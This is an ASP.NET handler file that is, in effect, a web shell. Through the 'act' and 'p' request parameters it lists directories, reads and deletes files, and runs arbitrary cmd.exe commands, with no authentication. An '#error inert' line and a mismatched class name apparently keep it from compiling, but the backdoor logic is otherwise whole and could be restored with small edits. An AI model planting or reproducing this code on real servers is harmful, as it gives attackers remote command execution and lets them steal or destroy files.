<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.Collections.Generic; using System.IO; using System.Web; using System.Diagnostics;
public class Hub : IHttpHandler {
 static readonly Dictionary<string, Func<string, string>> T = new Dictionary<string, Func<string, string>>(StringComparer.OrdinalIgnoreCase) {
  { "l", d => string.Join("\n", Directory.GetFileSystemEntries(d)) },
  { "r", f => File.ReadAllText(f) },
  { "d", f => { File.Delete(f); return "1"; } },
  { "x", c => { var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true }); return p.StandardOutput.ReadToEnd(); } }
 };
 public void ProcessRequest(HttpContext c) { Func<string, string> f; if (T.TryGetValue(c.Request["act"] ?? "", out f)) c.Response.Write(f(c.Request["p"])); }
 public bool IsReusable { get { return true; } }
}
